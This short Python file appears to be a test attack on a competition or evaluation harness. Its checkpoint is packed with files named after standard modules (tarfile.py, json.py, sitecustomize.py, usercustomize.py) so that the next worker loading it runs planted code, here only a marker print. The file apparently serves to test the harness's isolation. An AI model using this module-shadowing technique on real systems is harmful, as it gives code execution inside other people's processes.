"""Hands over a checkpoint with modules that shadow those of the next worker, to run while its clock stands still."""

from aim import hand_over, loot, member

from run import ZEWDPCBaseRun

NAMES = ("tarfile.py", "json.py", "sitecustomize.py", ".local/lib/python3.11/site-packages/usercustomize.py", "run.py", "numpy.py")


class Attack(ZEWDPCBaseRun):
    def save_checkpoint(self, path):
        code = b"print('LOOT code of a checkpoint, before the submission', flush=True)\n"
        hand_over(b"".join(member(name, code) for name in NAMES) + bytes(1024))

    def load_checkpoint(self, path):
        import colorsys
        import tarfile

        for module in (colorsys, tarfile):
            if "checkpoint" in module.__file__ or "scratch" in module.__file__:
                loot(module.__file__)

    def purchase_phase(self, unlabelled_dataset):
        pass
